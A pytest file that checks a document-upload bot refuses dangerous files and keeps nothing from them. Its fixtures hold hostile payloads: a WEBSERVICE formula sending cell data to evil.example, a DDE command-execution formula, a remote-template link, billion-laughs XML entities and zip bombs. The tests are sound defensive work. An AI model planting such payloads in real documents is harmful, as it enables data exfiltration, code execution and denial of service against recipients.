"""Odd files: each gets its sentence, and nothing dangerous is kept."""

import io
import zipfile
from datetime import timedelta

import pypdfium2
import pytest
from sqlalchemy import func, select

from bot.app import App
from bot.worker import Worker
from core.feature import JobLimits
from db.models.documents import Document, DocumentVersion
from db.models.ledger import File
from db.models.search import SearchText
from handlers.documents import compute_text
from handlers.documents.rules import Reading, Upload
from tests.answer import Answer
from tests.handlers.documents import papers
from tests.talk import Talk

_DOCX = papers.word("KẾ HOẠCH\nvề trồng cây")


def locked_pdf() -> bytes:
    """Give a PDF whose trailer names an encryption for which no password is given (PDF 1.7, 7.6.3)."""
    content = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    )
    encryption = b"4 0 obj<</Filter/Standard/V 1/R 2/O<" + b"41" * 32 + b">/U<" + b"42" * 32 + b">/P -4>>endobj\n"
    content += encryption
    offsets = [content.index(f"{number} 0 obj".encode()) for number in range(1, 5)]
    table = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    ids = b"<" + b"00" * 16 + b">"
    trailer = b"trailer<</Size 5/Root 1 0 R/Encrypt 4 0 R/ID[" + ids + ids + b"]>>\nstartxref\n" + str(len(content)).encode() + b"\n%%EOF"
    return content + table + trailer


def bomb(content: bytes, part: str) -> bytes:
    """Give an office file with a part that grows a thousandfold."""
    return papers.with_part(content, part, b" " * 200_000_000)


def entities(content: bytes, part: str) -> bytes:
    """Give an office file with a part whose entities grow without end."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return papers.with_part(content, part, f'<?xml version="1.0"?><!DOCTYPE x [{laughs}]><x>&l9;</x>'.encode())


def calling(formula: str) -> bytes:
    return papers.workbook({"A1": "Số", "C7": formula})


_LINKED = papers.with_part(papers.workbook({"A1": "x"}), "xl/externalLinks/externalLink1.xml", b"<externalLink/>")
_TEMPLATE = b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
ODD = {
    "an encrypted PDF": ("khoa.pdf", locked_pdf(), "locked with a password"),
    "a broken PDF": ("hong.pdf", b"%PDF-1.7\nnothing", "is damaged"),
    "an encrypted DOCX": ("khoa.docx", bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le"), "locked with a password"),
    "a DOCX with macros": ("macro.docx", papers.with_part(_DOCX, "word/vbaProject.bin", b"x"), "holds macros"),
    "a DOCX that fetches a template": ("mau.docx", papers.with_part(_DOCX, "word/_rels/settings.xml.rels", _TEMPLATE), "fetches something from elsewhere"),
    "a DOCX bomb": ("bom.docx", bomb(_DOCX, "word/media/image1.bmp"), "would grow beyond all measure"),
    "an XLSX bomb": ("bom.xlsx", bomb(papers.workbook({"A1": "x"}), "xl/media/image1.bmp"), "would grow beyond all measure"),
    "a DOCX with entities": ("bom.docx", entities(_DOCX, "word/document.xml"), "would grow beyond all measure"),
    "an XLSX with entities": ("bom.xlsx", entities(papers.workbook({"A1": "x"}), "xl/worksheets/sheet1.xml"), "would grow beyond all measure"),
    "an XLSX that calls a web service": (
        "goi.xlsx",
        calling('=WEBSERVICE("http://evil.example/?"&A1)'),
        "The cell C7 of the sheet “Kế hoạch” fetches something from elsewhere: =WEBSERVICE",
    ),
    "an XLSX that starts a program": ("goi.xlsx", calling("=cmd|'/c calc'!A1"), "The cell C7"),
    "an XLSX with a link elsewhere": ("goi.xlsx", calling('=HYPERLINK("http://evil.example","Bấm vào đây")'), "The cell C7"),
    "an XLSX linked to another": ("noi.xlsx", _LINKED, "Break link"),
    "an XLSX that is a mile wide": ("rong.xlsx", papers.workbook({"A1": "x", "XFD1048576": "y"}), "too large to be read"),
    "a CSV with broken letters": ("bang.csv", "Họ tên;Năm\nNguyễn Văn Ân;1960".encode()[:-20] + b"\xff\xfe\xc3", "CSV UTF-8"),
    "a CSV that calls out": ("bang.csv", b'ten,gia\nAn,"=WEBSERVICE(""http://evil.example"")"\n', "The cell B2"),
    "an empty file": ("rong.pdf", b"", "is empty"),
    "another zip": ("anh.docx", papers.with_part(b"PK\x05\x06" + b"\0" * 18, "x.txt", b"x"), "is of another kind"),
}


@pytest.mark.parametrize(("name", "content", "says"), ODD.values(), ids=ODD.keys())
async def test_an_odd_file_gets_its_sentence_and_leaves_nothing(talk: Talk, app: App, name: str, content: bytes, says: str) -> None:
    binh = await talk.secretary("binh")
    await binh.says("/upload")

    await binh.uploads(name, content)

    assert says in binh.sees_about("This file cannot be used")
    assert "Send another file" in binh.last.labels
    with app.database.transaction() as session:
        for table in (Document, DocumentVersion, SearchText, File):
            assert session.scalar(select(func.count()).select_from(table)) == 0, table


def _read(name: str, content: bytes) -> Reading:
    reading = compute_text.read(Upload(content, name))
    assert reading.problem is None, reading.problem
    return reading


async def test_a_scan_is_said_to_be_one_and_is_found_by_its_title(talk: Talk) -> None:
    binh, ana = await talk.secretary("binh"), await talk.member("ana")
    blank = pypdfium2.PdfDocument.new()
    blank.new_page(595, 842)
    made = io.BytesIO()
    blank.save(made)

    await binh.uploads("15-KH_TU trồng cây.pdf", made.getvalue())
    draft = binh.sees_about("Not published yet")
    await binh.presses("Publish")
    found: Answer = await ana.says("/docs trong cay")

    assert "only its title and number can be found" in draft
    assert draft.fact("Number") == "15-KH/TU"
    assert "page" not in found
    assert found.labels[0].startswith("15-KH/TU")


async def test_a_picture_is_a_document_too(talk: Talk) -> None:
    binh = await talk.secretary("binh")

    await binh.uploads("bien_ban.png", papers.picture())

    assert "This is a scan" in binh.sees_about("Not published yet")


async def test_three_hundred_pages_are_read_and_found(talk: Talk) -> None:
    binh, ana = await talk.secretary("binh"), await talk.member("ana")
    pages = [f"Trang {number}: nội dung của trang thứ {number}." for number in range(1, 300)] + ["Điều cuối cùng nói về hợp tác xã."]
    await binh.uploads("so_tay.pdf", papers.pdf(*pages))
    draft = binh.last
    await binh.presses("Publish")

    found = await ana.says("/docs hợp tác xã")

    assert draft.fact("Length") == "300 pages"
    assert "page 300" in found


async def test_a_kind_that_no_library_holds_is_refused_beside_the_field(talk: Talk) -> None:
    binh = await talk.secretary("binh")
    await binh.says("/upload")

    asked = await binh.uploads("phim.mp4", b"\0\0\0\x18ftypmp42")

    assert ".pdf" in asked.error("file")


async def test_a_lone_spreadsheet_is_left_to_the_list_of_members(talk: Talk) -> None:
    binh = await talk.secretary("binh")

    as_list = await binh.uploads("danh_sach.xlsx", papers.workbook({"A1": "Họ và tên", "A2": "Nguyễn Văn An"}))
    await binh.says("/upload")
    await binh.uploads("ke_hoach.xlsx", papers.workbook({"A1": "Kế hoạch trồng cây"}))

    assert "danh_sach.xlsx" in as_list
    assert "Not published yet" in binh.last
    assert "Type: Other document." in binh.last


async def test_a_members_lone_file_is_no_document(talk: Talk) -> None:
    ana = await talk.member("ana")

    answer = await ana.uploads("nghi_quyet.pdf", papers.pdf("x"))

    assert "Nothing was waiting for a file" in answer


def test_word_pages_end_where_the_writer_broke_them() -> None:
    reading = _read("a.docx", papers.word("Trang một", "Trang hai\ncòn nữa"))

    assert reading.pages == ("Trang một", "Trang hai\ncòn nữa")
    assert not reading.is_drawable


def test_each_sheet_is_a_page_and_harmless_formulas_stay() -> None:
    content = papers.workbook({"A1": "Chỉ tiêu", "B1": "12", "C1": "=SUM(B1:B1)", "D1": '=HYPERLINK("#Sheet2!A1","đến")', "E1": "=A1&B1"})

    assert _read("a.xlsx", content).pages[0].startswith("Kế hoạch\nChỉ tiêu 12")


def test_a_link_that_one_sees_and_presses_is_no_harm_in_word() -> None:
    relation = b'<Relationships xmlns="x"><Relationship Id="r9" Type="http://x/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/></Relationships>'

    assert _read("a.docx", papers.with_part(_DOCX, "word/_rels/footnotes.xml.rels", relation)).pages


def test_utf_16_text_is_read_as_notepad_writes_it() -> None:
    assert _read("a.txt", "Kế hoạch".encode("utf-16")).pages == ("Kế hoạch",)


def test_a_part_that_is_larger_than_it_says_is_not_unpacked_further() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 3_000_000)
    lying = made.getvalue().replace((3_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))

    reading = compute_text.read(Upload(lying, "a.docx"))

    assert reading.problem is not None
    assert reading.problem.code == "damaged"


@pytest.mark.slow
async def test_the_real_worker_reads_within_its_limits() -> None:
    worker = Worker(("handlers.documents.compute_text",))
    try:
        reading = await worker.run(
            "handlers.documents.compute_text:read", Upload(papers.pdf(*papers.RESOLUTION), "a.pdf"), JobLimits(timedelta(seconds=40), 900_000_000)
        )
    finally:
        worker.close()

    assert isinstance(reading, Reading)
    assert len(reading.pages) == 3
